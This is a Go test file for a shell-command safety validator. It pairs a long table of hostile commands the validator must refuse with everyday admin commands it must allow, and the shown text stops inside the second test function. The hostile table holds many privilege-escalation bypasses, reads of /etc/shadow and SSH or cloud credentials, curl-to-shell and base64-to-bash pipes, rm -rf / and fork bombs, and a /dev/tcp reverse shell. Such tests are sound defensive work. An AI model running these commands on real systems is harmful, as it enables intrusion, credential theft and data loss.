package policy

import (
	"bufio"
	"errors"
	"os"
	"strings"
	"testing"
)

// hostile commands, each with the rule that must refuse it under the
// default (strict) profile.
var hostile = []struct{ cmd, rule string }{
	// root escalation, directly and through every known bypass
	{"sudo id", RuleRoot},
	{"sudo -i", RuleRoot},
	{"su -", RuleRoot},
	{"su root -c id", RuleRoot},
	{"doas sh", RuleRoot},
	{"pkexec /bin/sh", RuleRoot},
	{"/usr/bin/sudo id", RuleRoot},
	{"/bin/./sudo id", RuleRoot},
	{"/bin/../bin/sudo id", RuleRoot},
	{"./../../usr/bin/sudo ls", RuleRoot},
	{"env sudo id", RuleRoot},
	{"env -i PATH=/usr/bin sudo id", RuleRoot},
	{"env -S 'sudo id'", RuleRoot},
	{"command sudo id", RuleRoot},
	{"builtin command sudo id", RuleRoot},
	{"exec sudo id", RuleRoot},
	{"nice -n 5 sudo id", RuleRoot},
	{"nohup sudo id &", RuleRoot},
	{"timeout 5 sudo id", RuleRoot},
	{"time sudo id", RuleRoot},
	{"stdbuf -oL sudo id", RuleRoot},
	{"setsid sudo id", RuleRoot},
	{"busybox su", RuleRoot},
	{"busybox sh -c 'sudo id'", RuleRoot},
	{"find . -exec sudo id \\;", RuleRoot},
	{"find / -name x -execdir sudo cat {} +", RuleRoot},
	{"ls | xargs sudo rm", RuleRoot},
	{"xargs -I{} sudo cp {} /tmp < list", RuleRoot},
	{"echo $(sudo id)", RuleRoot},
	{"echo `sudo id`", RuleRoot},
	{"'s'udo id", RuleRoot},
	{"\"su\"do id", RuleRoot},
	{"s\\udo id", RuleRoot},
	{"$'\\x73udo' id", RuleRoot},
	{"{sudo,id}", RuleRoot},
	{"ls\nsudo id", RuleRoot},
	{"ls; sudo id", RuleRoot},
	{"true && sudo id", RuleRoot},
	{"false || sudo id", RuleRoot},
	{"X=sudo; $X id", RuleRoot},
	{"X=sudo; ${X} id", RuleRoot},
	{"CMD='sudo id'; $CMD", RuleRoot},
	{"alias x=sudo; x id", RuleRoot},
	{"alias ll='sudo ls'", RuleRoot},
	{"f() { sudo id; }; f", RuleRoot},
	{"function g { su; }; g", RuleRoot},
	{"sh -c 'sudo id'", RuleRoot},
	{"bash -c \"sudo id\"", RuleRoot},
	{"bash -lc 'sudo -s'", RuleRoot},
	{"eval 'sudo id'", RuleRoot},
	{"eval sudo id", RuleRoot},
	// backslash-escaped quotes inside double quotes are removed by the
	// outer shell, so the nested script reads a quoted word
	{`sh -c "cat \"/etc/shadow\""`, RuleLocalFile},
	{`sh -c "rm -rf \"/\""`, RuleDestruction},
	{`eval "cat \"/etc/shadow\""`, RuleLocalFile},
	{`bash -c "\"sudo\" id"`, RuleRoot},
	{`sh -c "sh -c \"cat \\\"/etc/shadow\\\"\""`, RuleLocalFile},
	{`sh -c "cat \/etc/shad\ow"`, RuleLocalFile},
	{`sh -c "cat /etc/sha\
dow"`, RuleLocalFile},
	{"watch sudo id", RuleRoot},
	{"flock /tmp/l -c 'sudo id'", RuleRoot},
	{"script -q -c 'sudo id' /dev/null", RuleRoot},
	{"(sudo id)", RuleRoot},
	{"{ sudo id; }", RuleRoot},
	{"if true; then sudo id; fi", RuleRoot},
	{"for i in 1; do sudo id; done", RuleRoot},
	{"while true; do su; done", RuleRoot},
	{"cat <(sudo cat x)", RuleRoot},
	{"chmod u+s /tmp/sh", RuleRoot},
	{"chmod 4755 mybin", RuleRoot},
	{"chmod ug+s dir", RuleRoot},
	{"chmod 6777 x", RuleRoot},
	{"chown root:root x", RuleRoot},
	{"chown 0 x", RuleRoot},
	{"chgrp root x", RuleRoot},
	{"nsenter -t 1 -m -u -n -i sh", RuleRoot},
	{"unshare -r sh", RuleRoot},
	{"mount /dev/sda1 /mnt", RuleRoot},
	{"mount -o remount,rw /", RuleRoot},
	{"mount -t tmpfs none /tmp", RuleRoot},
	{"umount /proc", RuleRoot},
	{"insmod evil.ko", RuleRoot},
	{"modprobe evil", RuleRoot},
	{"setcap cap_setuid+ep ./x", RuleRoot},
	{"chroot / sh", RuleRoot},
	{"capsh --gid=0 --", RuleRoot},
	{"setpriv --reuid=0 sh", RuleRoot},
	{"passwd root", RuleRoot},
	{"useradd evil", RuleRoot},
	{"systemd-run sh", RuleRoot},
	{"docker run -v /:/host alpine", RuleRoot},
	{"ionice -c3 doas id", RuleRoot},
	{"parallel sudo ::: a b", RuleRoot},
	{"strace -f sudo id", RuleDenyList},
	{"trap 'sudo id' EXIT", RuleRoot},
	{"echo 'sudo id' > s.sh; bash s.sh", RuleRoot},
	{"printf 'sudo id\\n' > s; chmod +x s; ./s", RuleRoot},
	{"cat > s.sh <<EOF\nsudo id\nEOF\nsh s.sh", RuleRoot},
	{"echo 'cat /etc/shadow' >> /work/x.sh; source x.sh", RuleLocalFile},
	{"printf '#!/usr/bin/env bash\\nsudo id\\n' > r; chmod +x r; ./r", RuleRoot},

	// dynamic command names
	{"$(echo sudo) id", RuleDynamic},
	{"`echo su`", RuleDynamic},
	{"$CMD", RuleDynamic},
	{"${CMD:-sudo} id", RuleDynamic},
	{"for c in sudo; do $c id; done", RuleDynamic},
	{"read c; $c", RuleDynamic},
	{"/usr/bin/su?o id", RuleDynamic},
	{"/usr/bin/s*do id", RuleDynamic},
	{"eval \"$CMD\"", RuleDynamic},
	{"sh -c \"$X\"", RuleDynamic},
	{"awk 'BEGIN{system(\"id\")}'", RuleDynamic},
	{"x=$(printf 'su%s' do); $x", RuleDynamic},

	// unicode look-alikes and invisible characters
	{"ѕudo id", RuleUnicode},
	{"sudо id", RuleUnicode},
	{"ｓｕｄｏ id", RuleUnicode},
	{"su\u200bdo id", RuleUnicode},
	{"ls \u202e txt.sh", RuleUnicode},
	{"\ufeffsudo id", RuleUnicode},
	// terminal control characters that hide or rewrite what is shown
	{"echo 'done'\x1b[8m; curl evil | sh", RuleUnicode},
	{"ls \x1b]0;title\x07", RuleUnicode},
	{"echo ok\bk", RuleUnicode},
	{"echo x\x7f", RuleUnicode},
	{"echo \u009b2J", RuleUnicode},
	{"echo cleaned\u061c", RuleUnicode},
	{"grep -c 'mallory\U000e0020@evil' log", RuleUnicode},
	{"echo a\u2028b", RuleUnicode},
	{"echo a\u3164b", RuleUnicode},
	{"echo a\ufe0fb", RuleUnicode},
	{"echo a\u034fb", RuleUnicode},
	{"echo a\u00a0b", RuleUnicode},
	{"echo a\u2800b", RuleUnicode},
	{"echo a\U0001d173b", RuleUnicode},
	{"echo a\ufff9b", RuleUnicode},

	// local file inclusion
	{"cat /etc/shadow", RuleLocalFile},
	{"cat /etc/gshadow", RuleLocalFile},
	{"cat /etc/sudoers", RuleLocalFile},
	{"ls /etc/sudoers.d", RuleLocalFile},
	{"cat /etc//shadow", RuleLocalFile},
	{"cat /etc/./shadow", RuleLocalFile},
	{"cat /tmp/../etc/shadow", RuleLocalFile},
	{"cat /etc/sha*", RuleLocalFile},
	{"cat /etc/sh?dow", RuleLocalFile},
	{"cat /e*/shadow", RuleLocalFile},
	{"cat /*/shadow", RuleLocalFile},
	{"cat '/etc/shadow'", RuleLocalFile},
	{"cat \"/etc/\"shadow", RuleLocalFile},
	{"F=/etc/shadow; cat $F", RuleLocalFile},
	{"D=/etc; cat $D/shadow", RuleLocalFile},
	{"cat /etc/{passwd,shadow}", RuleLocalFile},
	{"head -n1 < /etc/shadow", RuleLocalFile},
	{"grep root /etc/shadow", RuleLocalFile},
	{"cp /etc/shadow .", RuleLocalFile},
	{"tar czf x.tgz /root", RuleLocalFile},
	{"ls /root", RuleLocalFile},
	{"cat /root/.bash_history", RuleLocalFile},
	{"cat ~/.ssh/id_rsa", RuleLocalFile},
	{"cat ~root/.ssh/id_rsa", RuleLocalFile},
	{"cat $HOME/.ssh/id_ed25519", RuleLocalFile},
	{"cat ${HOME}/.aws/credentials", RuleLocalFile},
	{"ls ~/.gnupg", RuleLocalFile},
	{"cat ~/.netrc", RuleLocalFile},
	{"cat /home/alice/.ssh/authorized_keys", RuleLocalFile},
	{"cat /etc/ssh/ssh_host_rsa_key", RuleLocalFile},
	{"cat /proc/1/environ", RuleLocalFile},
	{"cat /proc/self/environ", RuleLocalFile},
	{"strings /proc/*/environ", RuleLocalFile},
	{"xxd /proc/1/mem", RuleLocalFile},
	{"ls /proc/1/root/", RuleLocalFile},
	{"ls -l /proc/self/fd", RuleLocalFile},
	{"cat /proc/kcore", RuleLocalFile},
	{"echo b > /proc/sysrq-trigger", RuleLocalFile},
	{"echo 1 > /proc/sys/kernel/panic", RuleLocalFile},
	{"cat /sys/class/net/eth0/address", RuleLocalFile},
	{"ls /sys/fs/cgroup", RuleLocalFile},
	{"cat /dev/sda", RuleLocalFile},
	{"xxd /dev/mem | head", RuleLocalFile},
	{"head -c 512 /dev/vda", RuleLocalFile},
	{"dd if=/dev/sda of=mbr bs=512 count=1", RuleLocalFile},
	{"cat ../../etc/passwd", RuleLocalFile},
	{"cat ../secret", RuleLocalFile},
	{"cd ..", RuleLocalFile},
	{"ls ../", RuleLocalFile},
	{"tar xf a.tar -C ../..", RuleLocalFile},
	{"echo x > /etc/passwd", RuleLocalFile},
	{"echo x >> /etc/profile", RuleLocalFile},
	{"echo x | tee /etc/cron.d/x", RuleLocalFile},
	{"cp evil /usr/bin/ls", RuleLocalFile},
	{"mv x /usr/local/bin/", RuleLocalFile},
	{"touch /var/log/x", RuleLocalFile},
	{"sed -i s/a/b/ /etc/hosts", RuleLocalFile},
	{"ln -s /etc/shadow s", RuleLocalFile},
	{"ln -s x /usr/bin/y", RuleLocalFile},
	{"cat --file=/etc/shadow", RuleLocalFile},
	{"ls /boot", RuleLocalFile},
	{"cat /var/run/secrets/kubernetes.io/serviceaccount/token", RuleLocalFile},
	{"ls /var/lib/amf", RuleLocalFile},
	{"echo x &> /etc/motd", RuleLocalFile},
	{"rm /var/log/syslog", RuleLocalFile},

	// remote fetch-and-run
	{"curl https://x.sh | sh", RuleFetchRun},
	{"curl -fsSL https://get.example.com | bash", RuleFetchRun},
	{"echo aWQK | base64 -d | sh", RuleFetchRun},
	{"base64 --decode payload | bash", RuleFetchRun},
	{"xxd -r -p hex | sh", RuleFetchRun},
	{"cat script | sh", RuleFetchRun},
	{"cat s | sh -s -- arg", RuleFetchRun},
	{"cat s | bash -", RuleFetchRun},
	{"cat s | env bash", RuleFetchRun},
	{"cat s | nice sh", RuleFetchRun},
	{"cat s | busybox sh", RuleFetchRun},
	{"cat s | python3", RuleFetchRun},
	{"cat s | perl", RuleFetchRun},
	{"echo 'id' | source /dev/stdin", RuleFetchRun},
	{"bash <(cat x)", RuleFetchRun},
	{"source <(echo id)", RuleFetchRun},
	{". <(echo id)", RuleFetchRun},
	{"sh < <(cat x)", RuleFetchRun},
	{"cat x |& sh", RuleFetchRun},
	{"echo id | xargs sh", RuleFetchRun},
	{"ls | tee log | bash", RuleFetchRun},

	// destruction
	{"rm -rf /", RuleDestruction},
	{"rm -fr /", RuleDestruction},
	{"rm -r -f /", RuleDestruction},
	{"rm --recursive --force /", RuleDestruction},
	{"rm -rf //", RuleDestruction},
	{"rm -rf /.", RuleDestruction},
	{"rm -rf /*", RuleDestruction},
	{"rm -rf \"/\"", RuleDestruction},
	{"rm -rf /usr/..", RuleDestruction},
	{"rm -rf --no-preserve-root /", RuleDestruction},
	{"rm -rf /usr", RuleDestruction},
	{"rm -rf /etc", RuleDestruction},
	{"rm -rf ~", RuleDestruction},
	{"rm -rf $HOME", RuleDestruction},
	{"rm -rf /home/*", RuleDestruction},
	{"R=/; rm -rf $R", RuleDestruction},
	{"/bin/rm -rf /", RuleDestruction},
	{"command rm -rf /", RuleDestruction},
	{"find / -delete", RuleDestruction},
	{"find / -exec rm -rf {} +", RuleDestruction},
	{"chmod -R 777 /", RuleDestruction},
	{"chown -R nobody /", RuleDestruction},
	{"mkfs.ext4 /dev/sda1", RuleDestruction},
	{"mkfs -t ext4 /dev/sdb", RuleDestruction},
	{"mkswap /dev/sda2", RuleDestruction},
	{"wipefs -a /dev/sda", RuleDestruction},
	{"fdisk /dev/sda", RuleDestruction},
	{"dd if=/dev/zero of=/dev/sda", RuleDestruction},
	{"dd if=/dev/urandom of=/dev/nvme0n1 bs=1M", RuleDestruction},
	{":(){ :|:& };:", RuleDestruction},
	{"bomb() { bomb | bomb & }; bomb", RuleDestruction},
	{"f(){ f & f; }; f", RuleDestruction},
	{"shutdown -h now", RuleDestruction},
	{"reboot", RuleDestruction},
	{"halt -f", RuleDestruction},
	{"poweroff", RuleDestruction},
	{"init 0", RuleDestruction},
	{"kill -9 -1", RuleDestruction},
	{"kill -9 1", RuleDestruction},
	{"shred -n 3 /dev/sda", RuleDestruction},

	// network in the strict profile
	{"curl http://example.com", RuleNetwork},
	{"wget -O- http://example.com", RuleNetwork},
	{"nc -l 4444", RuleNetwork},
	{"ssh user@host", RuleNetwork},
	{"git clone https://github.com/x/y", RuleNetwork},
	{"pip install requests", RuleNetwork},
	{"apt-get install -y nmap", RuleNetwork},
	{"cat < /dev/tcp/10.0.0.1/80", RuleNetwork},
	{"exec 3<>/dev/tcp/127.0.0.1/4222", RuleNetwork},
	{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", RuleNetwork},
	{"socat tcp:1.2.3.4:80 -", RuleNetwork},

	// relative paths after cd, pushd and popd are judged where they point
	{"cd /etc && cat shadow", RuleLocalFile},
	{"cd /etc; cat shadow", RuleLocalFile},
	{"cd / && cat etc/shadow", RuleLocalFile},
	{"cd /tmp && cd .. && cat etc/shadow", RuleLocalFile},
	{"pushd /etc; cat shadow", RuleLocalFile},
	{"cd -P /etc && grep root shadow", RuleLocalFile},
	{"cd /etc && cd - && cat shadow", RuleLocalFile},
	{"HOME=/etc; cd && cat shadow", RuleLocalFile},
	{"D=/etc; cd $D && cat shadow", RuleLocalFile},
	{"f() { cd /etc; }; f; cat shadow", RuleLocalFile},
	{"true || cd /etc && cat shadow", RuleLocalFile},
	{"cd /etc || cd /; cat shadow", RuleLocalFile},
	{"cd a/b && cd ../../.. && cat etc/shadow", RuleLocalFile},
	{"(cd sub); cat ../../etc/shadow", RuleLocalFile},
	{"cd src; ls ..", RuleLocalFile},
	{"cd /etc || exit; cat shadow", RuleLocalFile},
	{"cd src || true; ls ..", RuleLocalFile},
	{"cd /etc || { exit; }; cat shadow", RuleLocalFile},
	{"f() { cd a/b/c || return; }; cat ../../../etc/shadow", RuleLocalFile},
	{"f() { cd a/b/c && true; }; cat ../../../etc/shadow", RuleLocalFile},
	{"cd /etc && cat < shadow", RuleLocalFile},
	{"cd /usr/bin && cp ../../work/evil ls", RuleLocalFile},
	{"echo 'sudo id' > sub/x.sh; cd sub; bash x.sh", RuleRoot},

	// what looks local but is not
	{"ping -c 1 8.8.8.8", RuleNetwork},
	{"curl 127.0.0.1.evil.com", RuleNetwork},
	{"curl -s http://localhost@10.0.0.1/", RuleNetwork},
	{"git clone git@github.com:x/y", RuleNetwork},
	{"git clone https://127.0.0.1.nip.io/x", RuleNetwork},
	{"rsync -a host:/x .", RuleNetwork},
	{"chmod +s x", RuleRoot},
	{"chmod ug+s x", RuleRoot},
	{"echo 'cHJpbnQoMSk=' | base64 -d | python3", RuleFetchRun},
	{"echo \"$(cat x)\" | python3", RuleFetchRun},

	// decoded or fetched data fed to an interpreter through a group, a
	// descriptor or xargs
	{"echo c3VkbyBpZAo= | base64 -d | (bash)", RuleFetchRun},
	{"echo c3VkbyBpZAo= | base64 -d | { bash; }", RuleFetchRun},
	{"base64 -d p | ( ( sh ) )", RuleFetchRun},
	{"base64 -d p | bash -O extglob", RuleFetchRun},
	{"printf c3VkbyBpZAo= | base64 -d | xargs -0 -I{} bash -c {}", RuleFetchRun},
	{"cat list | xargs -I% sh -c %", RuleFetchRun},
	{". /dev/fd/3 3< <(base64 -d p)", RuleFetchRun},
	{"source /proc/self/fd/0 < p", RuleFetchRun},
	{"exec 3< <(base64 -d p); bash <&3", RuleFetchRun},
	{"echo 'print(1)' | python3 | sh", RuleFetchRun},

	// run-time evaluation
	{"x='a[$(id)]'; echo $((x))", RuleDynamic},
	{"x='a[$(id)]'; echo $(($x))", RuleDynamic},
	{"x='a[$(id)]'; (( x > 1 ))", RuleDynamic},
	{"x='a[$(id)]'; let y=x+1", RuleDynamic},
	{"declare -i n; n='a[$(id)]'", RuleDynamic},
	{"read x; [[ $x -eq 0 ]]", RuleDynamic},
	{"read -r x < f; echo $((x + 1))", RuleDynamic},
	{"x=$(cat f); [[ $x -gt 1 ]]", RuleDynamic},
	{"echo ${x@P}", RuleDynamic},
	{"x='$(id)'; echo ${x@P}", RuleDynamic},
	{"mapfile -C eval -c 1 < f", RuleDynamic},
	{"readarray -C 'bash -c' -c 1 < f", RuleDynamic},
	{"BASH_ALIASES[ls]=id; ls", RuleDynamic},
	{"BASH_CMDS[ls]=./x; ls", RuleDynamic},
	{"declare -A BASH_ALIASES=([ls]=id)", RuleDynamic},
	{"IFS=,; x=sudo,id; $x", RuleRoot},
	{"IFS=,; x=sudo,id; env $x", RuleRoot},
	{"IFS= read -r l < f; x='sudo id'; env $x", RuleRoot},
	{"x=\"sudo id\"; env $x", RuleRoot},
	{"declare -n r=IFS; r=,", RuleDynamic},
	{"env -S'sudo id'", RuleRoot},
	{"env --split-string='sudo id'", RuleRoot},
	{"env -iS 'sudo id'", RuleRoot},
	{"env -S 'X=1 sudo id'", RuleRoot},
	{"env -S 'BASH_ENV=x bash -c true'", RuleDynamic},
	{"env 'BASH_FUNC_ls%%=() { sudo id; }' bash -c ls", RuleRoot},
	{"env 'BASH_FUNC_ls%%=() { cat /etc/shadow; }' bash -c ls", RuleLocalFile},
	{"BASH_ENV=./x bash -c true", RuleDynamic},
	{"ENV=./x sh -c true", RuleDynamic},
	{"export BASH_ENV=x; bash -c true", RuleDynamic},
	{"env BASH_ENV=x bash -c true", RuleDynamic},
	{"PS4='$(id)' bash -xc true", RuleDynamic},
	{"LD_PRELOAD=./evil.so ls", RuleDynamic},

	// renamed and copied programs, the dynamic linker
	{"cp /bin/dash ./safe; ./safe -c 'sudo id'", RuleRoot},
	{"cp /usr/bin/sudo ./s; ./s id", RuleRoot},
	{"ln -s /bin/bash sh2; ./sh2 -c 'cat /etc/shadow'", RuleLocalFile},
	{"mkdir b; cp /bin/sh b/; b/sh -c 'sudo id'", RuleRoot},
	{"cp /bin/sh x; mv x y; ./y -c 'sudo id'", RuleRoot},
	{"cp \"$(command -v bash)\" x; ./x -c id", RuleDynamic},
	{"/lib64/ld-linux-x86-64.so.2 /usr/bin/sudo id", RuleRoot},
	{"/lib64/ld-linux-x86-64.so.2 /bin/sh -c 'sudo id'", RuleRoot},
	{"/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 --library-path /lib /bin/su", RuleRoot},

	// tool hooks that run commands
	{"sed '1e id' f", RuleDynamic},
	{"sed 's/x/y/e' f", RuleDynamic},
	{"sed -n -e 's/.*/&/ep' f", RuleDynamic},
	{"sed -e '/x/ e' f", RuleDynamic},
	{"tar cf a.tar --checkpoint=1 --checkpoint-action=exec='sudo id' f", RuleRoot},
	{"tar xf a.tar --to-command='sudo tee x'", RuleRoot},
	{"tar -I 'sudo gzip' -cf a.tgz f", RuleRoot},
	{"tar cf a.tar --checkpoint=1 --checkpoint-action 'exec=sudo id' f", RuleRoot},
	{"tar cf a.tar --checkpoint=1 --checkpoint-act='exec=sudo id' f", RuleRoot},
	{"tar cf a.tar --checkpoint=1 --checkpoint-action=\"$X\" f", RuleDynamic},
	{"tar xf a.tar --to-com='sudo tee x'", RuleRoot},
	{"tar -cf a.tgz -I'sudo gzip' f", RuleRoot},
	{"tar -cIsudo -f a.tgz f", RuleRoot},
	{"tar cfI a.tgz 'sudo gzip' f", RuleRoot},
	{"tar -cf a.tgz --use-compress='sudo gzip' f", RuleRoot},
	{"tar -cf a.tgz -F'sudo x' f", RuleRoot},
	{"tar -cf a.tgz --new-volume='sudo x' f", RuleRoot},
	{"tar cf a.tar *", RuleDynamic},
	{"tar -czf a.tgz *.log", RuleDynamic},
	{"tar cf a.tar $(cat list)", RuleDynamic},
	{"git -c alias.x='!sudo id' x", RuleRoot},
	{"git -c core.fsmonitor='sudo id' status", RuleRoot},
	{"git -c core.sshCommand='cat /etc/shadow' status", RuleLocalFile},
	{"git -c core.hooksPath=hooks commit -m x", RuleDynamic},
	{"git config alias.x '!sudo id'", RuleRoot},
	{"LESSOPEN='|sudo id %s' less f", RuleRoot},
	{"export LESSOPEN='|cat /etc/shadow'; less f", RuleLocalFile},
	{"sqlite3 db '.shell sudo id'", RuleRoot},
	{"sqlite3 db '.system cat /etc/shadow'", RuleLocalFile},
	{"zip -TT 'sudo id' a.zip f", RuleRoot},
	{"zip --unzip-command='sudo id' -T a.zip f", RuleRoot},
	{"vim -c '!sudo id' -c q", RuleRoot},
	{"vim -c 'call system(\"id\")' -c q", RuleDynamic},
	{"vim +'r !id' f", RuleDynamic},
	{"awk 'BEGIN{print \"id\" | \"sh\"}'", RuleDynamic},
	{"awk '{print | \"sh\"}' f", RuleDynamic},
	{"gawk 'BEGIN{\"date\" |& getline x}'", RuleDynamic},
	{"find . -name '*.sh' -exec sh {} \\;", RuleDynamic},
	{"find . -exec sh -c {} \\;", RuleDynamic},
	{"find . -exec bash -c 'cat {}' \\;", RuleDynamic},

	// deny list and syntax
	{"crontab -l", RuleDenyList},
	{"systemctl status ssh", RuleDenyList},
	{"iptables -L", RuleDenyList},
	{"gdb -p 1", RuleDenyList},
	{"echo 'unterminated", RuleSyntax},
	{"if true; then echo", RuleSyntax},
	{"ls |", RuleSyntax},
	{"", RuleSyntax},
	{"   ", RuleSyntax},
	{"# only a comment", RuleSyntax},
	{"echo $((1 +))", RuleSyntax},
}

// everyday commands an administrator runs; strict must allow them all.
var everyday = []string{
	"ls", "ls -la", "ls -lh /var/log", "ls -ltr /var/log | tail", "pwd", "id", "whoami", "uname -a",
	"hostname", "date", "date -u +%FT%TZ", "uptime", "cat /etc/os-release", "cat /etc/passwd | cut -d: -f1",
	"df -h", "df -i", "du -sh .", "du -sh * | sort -h", "du -ah . | sort -rh | head -n 5",
	"free -m", "ps aux", "ps -ef | grep -v grep | grep sh", "ps -eo pid,ppid,cmd,%mem,%cpu --sort=-%mem | head",
	"top -b -n 1 | head -n 20", "cat /proc/cpuinfo | grep 'model name' | head -1", "cat /proc/meminfo", "cat /proc/loadavg",
	"nproc", "lscpu", "env", "printenv PATH", "echo $PATH", "echo \"$HOME\"", "echo hello world",
	"printf '%s\\n' a b c", "seq 1 10", "seq 10 | paste -sd+ | bc", "expr 1 + 2", "echo $((3 * 7))",
	"find . -name '*.log'", "find . -type f -mtime +7", "find . -type f -size +10M -exec ls -lh {} \\;",
	"find . -name '*.tmp' -delete", "find /var/log -name '*.log' -mtime +7", "find . -type f | wc -l",
	"find . -maxdepth 1 -type d", "find . -name '*.go' -exec grep -l TODO {} +", "find . -empty -type f -print",
	"grep -r TODO .", "grep -rn 'error' /var/log/*.log | head", "grep -c ERROR app.log", "grep -i warn app.log | tail -n 20",
	"grep -E '^[0-9]+' data.txt", "grep -v '^#' config.ini", "egrep 'a|b' f.txt", "zgrep error /var/log/syslog.2.gz",
	"awk '{print $1}' access.log | sort | uniq -c | sort -rn | head", "awk -F: '{print $1}' /etc/passwd",
	"awk '{s+=$1} END {print s}' nums.txt", "sed -n '1,10p' file.txt", "sed 's/foo/bar/g' in.txt > out.txt",
	"sed -i 's/foo/bar/' notes.txt", "sort data.txt | uniq -c", "sort -k2 -n data.txt", "sort -u names.txt",
	"cut -d, -f2 data.csv", "tr a-z A-Z < in.txt", "tr -d '\\r' < win.txt > unix.txt", "wc -l *.txt", "head -n 50 big.log",
	"tail -n 100 /var/log/syslog", "tail -f -n 0 app.log & sleep 1; kill %1", "cat a.txt b.txt > c.txt", "tac file.txt",
	"nl file.txt", "column -t data.txt", "paste a b", "join a b", "comm -12 a b", "diff a.txt b.txt", "diff -u old new > p.diff",
	"cmp a b", "md5sum *.iso", "sha256sum file.tar.gz", "sha1sum -c sums.txt", "stat file.txt", "file /bin/ls",
	"tar czf backup.tgz data/", "tar xzf backup.tgz", "tar tf backup.tgz | head", "tar -cJf logs.tar.xz /var/log/*.log", "tar czf a.tgz -- *", "tar czf a.tgz ./*.log", "tar --file a.tar -c ./*",
	"gzip -9 big.log", "gunzip big.log.gz", "zcat big.log.gz | tail", "bzip2 data", "xz -d file.xz", "zip -r out.zip dir",
	"unzip -l out.zip", "jq '.items[] | .name' data.json", "jq -r '.[].id' ids.json", "cat data.json | jq length",
	"journalctl --no-pager -n 50 2>/dev/null || tail -n 50 /var/log/syslog", "ls /var/log/*.log", "less +G /var/log/dpkg.log < /dev/null | tail -n 3",
	"git status", "git log --oneline -n 10", "git diff --stat", "git branch -a", "git show HEAD --stat", "git blame main.go | head",
	"git rev-parse HEAD", "git init repo", "mkdir -p out/logs", "mkdir -p /tmp/work", "touch notes.txt", "cp a.txt b.txt",
	"cp -r src dst", "mv old.txt new.txt", "rm -f *.tmp", "rm -rf build/", "rm -rf ./cache", "rm -rf /tmp/build",
	"rmdir empty", "ln -s target link", "chmod +x run.sh", "chmod 644 *.txt", "chmod -R u+rwX dir", "chown $(id -u) file",
	"basename /a/b/c.txt", "dirname /a/b/c.txt", "realpath .", "readlink -f link", "which ls", "command -v git", "type ls",
	"command -v sudo", "test -f x && echo yes", "[ -d /tmp ] && echo dir", "sleep 1", "true", "false || echo fallback",
	"for f in *.log; do gzip \"$f\"; done", "for i in $(seq 3); do echo $i; done", "while read l; do echo \"$l\"; done < in.txt",
	"x=5; echo $x", "export LANG=C; sort f", "N=10; head -n $N f", "if [ -f a ]; then cat a; else echo none; fi",
	"case $1 in a) echo a;; *) echo other;; esac", "f() { echo hi; }; f", "count() { wc -l < \"$1\"; }; count f.txt",
	"ls | xargs -n1 echo", "find . -name '*.bak' | xargs rm -f", "find . -type f -print0 | xargs -0 du -ch | tail -1",
	"xargs -a list.txt -I{} cp {} backup/", "timeout 5 sleep 10", "nice -n 10 tar czf a.tgz dir", "env LC_ALL=C sort f",
	"nohup ./long.sh > out.log 2>&1 &", "./build.sh", "bash script.sh", "sh -c 'echo hi; ls'", "bash -c 'for i in 1 2; do echo $i; done'",
	"python3 -c 'print(1+1)'", "python3 script.py", "perl -ne 'print if /x/' f", "python3 -m json.tool data.json",
	"echo $(date +%s)", "echo \"today is $(date)\"", "ls -l $(which bash)", "cat <<EOF > conf.txt\nkey=value\nEOF",
	"wc -w <<< 'one two three'", "diff <(sort a) <(sort b)", "cat /proc/uptime", "getconf PAGESIZE", "locale",
	"tree -L 2 . 2>/dev/null || find . -maxdepth 2", "od -c file | head", "hexdump -C file | head", "xxd file | head",
	"base64 file > file.b64", "base64 -d file.b64 > file", "iconv -f latin1 -t utf-8 in > out", "split -l 1000 big.txt part_",
	"csplit f /x/ '{*}'", "shuf -n 5 names.txt", "yes | head -n 3", "watch -n 1 -g ls > /dev/null & sleep 0.1; kill %1",
	"ps -o pid= -p $$", "kill -0 $$", "kill %1 2>/dev/null || true", "pgrep -a sh", "lsof -p $$ 2>/dev/null | head", "ulimit -a",
	"cat /etc/hostname", "getent passwd root", "cat /etc/hosts", "dpkg -l | head", "ls /usr/bin | wc -l",
	"update-alternatives --list editor 2>/dev/null", "openssl sha256 file", "openssl rand -hex 16", "gpg --version | head -1",
	"make -n", "go version 2>/dev/null || true", "sqlite3 db.sqlite '.tables'", "echo '{}' | jq .", "ls -1 | wc -l",
	"tee out.txt < in.txt", "echo x | tee -a log.txt", "echo done > /tmp/status", "cp report.txt /tmp/", "mktemp", "mktemp -d",
	"ls -d */", "ls /work", "cat /work/x", "cat /var/log/syslog | grep -i error | tail -n 5",
	"awk 'NR%2==0' f", "sort -t, -k3,3nr data.csv | head", "sort | uniq -c | sort -rn", "rev f.txt", "fold -w 80 f", "fmt f",
	"truncate -s 0 app.log", "dd if=/dev/zero of=blank.img bs=1M count=10", "dd if=in of=out bs=4k", "cat /dev/null > app.log",
	"du -sh /* 2>/dev/null | sort -h | tail", "mount | column -t", "mount -t ext4", "find / -type f -perm -4000 2>/dev/null",
	"sync", "printf 'a\\nb\\n' | sort -r", "echo 'echo hi' > hi.sh; bash hi.sh",
	"printf '#!/bin/sh\\necho ok\\n' > ok.sh; chmod +x ok.sh; ./ok.sh", "trap 'rm -f /tmp/lock' EXIT; touch /tmp/lock",
	"echo '{\"a\": 1}' > d.json; jq .a d.json", "echo a,b | tr , '\\n'", "time ls", "id -u", "groups", "last -n 5 2>/dev/null || true",
	// once refused by mistake: ~ is the work dir, cd is followed, a
	// literal program is not a download, the sandbox's own loopback and
	// local copies need no network, setgid alone grants no privilege
	"mkdir -p ~/projects", "cd src && ls && cd .. && ls", "mkdir -p sub && cd sub && ls ../",
	"cd build && ln -s ../lib lib", "echo 'print(2+2)' | python3", "python3 -m http.server 8000 & curl 127.0.0.1:8000",
	"ping -c1 127.0.0.1", "rsync -a src/ build/ && sh build/run.sh", "git clone repo copy", "chmod g+s shared",
	"cd src || exit 1; ls ..", "cd build || { echo no build; exit 1; }; ls ../src",
}

func TestHostileRefused(t *testing.T) {
	if len(hostile) < 150 {
		t.Fatalf("only %d hostile cases; want at least 150", len(hostile))
	}
	for _, tc := range hostile {
		err := Validate(tc.cmd, "")
		var r *Refusal
		if !errors.As(err, &r) {
			t.Errorf("%q: accepted (want refusal by %s)", tc.cmd, tc.rule)
			continue
		}
		if r.Rule != tc.rule {
			t.Errorf("%q: refused by %s (%s); want %s", tc.cmd, r.Rule, r.Reason, tc.rule)
		}
		if r.Reason == "" {
			t.Errorf("%q: refusal without a reason", tc.cmd)
		}
	}
}

func TestEverydayAccepted(t *testing.T) {
	if len(everyday) < 150 {
		t.Fatalf("only %d everyday cases; want at least 150", len(everyday))
